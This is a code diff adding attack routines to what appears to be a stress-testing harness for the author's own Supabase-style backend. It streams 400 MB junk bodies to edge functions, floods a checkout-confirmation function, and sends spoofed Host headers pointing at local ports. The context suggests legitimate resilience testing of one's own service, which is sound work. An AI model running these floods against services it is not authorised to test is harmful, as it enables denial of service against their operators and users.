@@ -1,3 +1,4 @@
+import { get as httpGet, request as httpRequest } from 'node:http';
 import { connect } from 'node:net';
 import WebSocket from 'ws';
 import { asPerson, type Project, post, register, request, signIn } from './api';
@@ -50,6 +51,38 @@ function joinMany({ url, publishableKey }: Project, token: string): Promise<unkn
   });
 }
 
+/** Sends a body for as long as it is taken, up to 400 MB; nobody's, so that no account is needed. */
+const pour = ({ url, publishableKey }: Project, path: string) =>
+  new Promise<void>((resolve) => {
+    const headers = { apikey: publishableKey, 'content-type': 'application/json' };
+    const asked = httpRequest(`${url}${path}`, { method: 'POST', headers });
+    const chunk = Buffer.alloc(1024 * 1024, 'x');
+    let left = 400;
+    const more = (): void => {
+      while (left > 0 && !asked.destroyed) {
+        left -= 1;
+        if (!asked.write(chunk)) return void asked.once('drain', more);
+      }
+      asked.end();
+    };
+    asked.on('response', (answer) => answer.resume());
+    asked.on('close', resolve);
+    asked.on('error', () => resolve());
+    more();
+  });
+
+/** Asks for a page by a name of this machine at a port that nothing listens on. */
+const byMadeUpName = ({ url }: Project, turn: number) =>
+  new Promise<void>((resolve) => {
+    const headers = { host: `127.0.0.1:${1 + (turn % 65_000)}`, accept: 'text/html', 'accept-encoding': 'br' };
+    const asked = httpGet(url, { headers, agent: false }, (answer) => answer.resume());
+    asked.on('close', resolve);
+    asked.on('error', () => resolve());
+  });
+
+/** Those on what only the site's own server does. */
+export const ON_SITE = new Set(['made-up names']);
+
 export const ATTACKS: Record<string, Attack> = {
   'sign-in flood': (project) =>
     storm(60, (turn) =>
@@ -77,6 +110,10 @@ export const ATTACKS: Record<string, Attack> = {
     for (let socket = 0; socket < 300; socket += 1) slowly(project);
     return new Promise(() => {});
   },
+  'endless bodies to functions': (project) => storm(4, () => pour(project, '/functions/v1/quick-register')),
+  'a hundred calls of one function': (project) =>
+    storm(100, () => post(project, '/functions/v1/confirm-checkout', { sessionId: 'cs_test_x' })),
+  'made-up names': (project) => storm(40, (turn) => byMadeUpName(project, turn)),
   'realtime joins': async (project) => {
     const { token } = await signIn(project, CLIENT);
     return storm(30, () => joinMany(project, token));
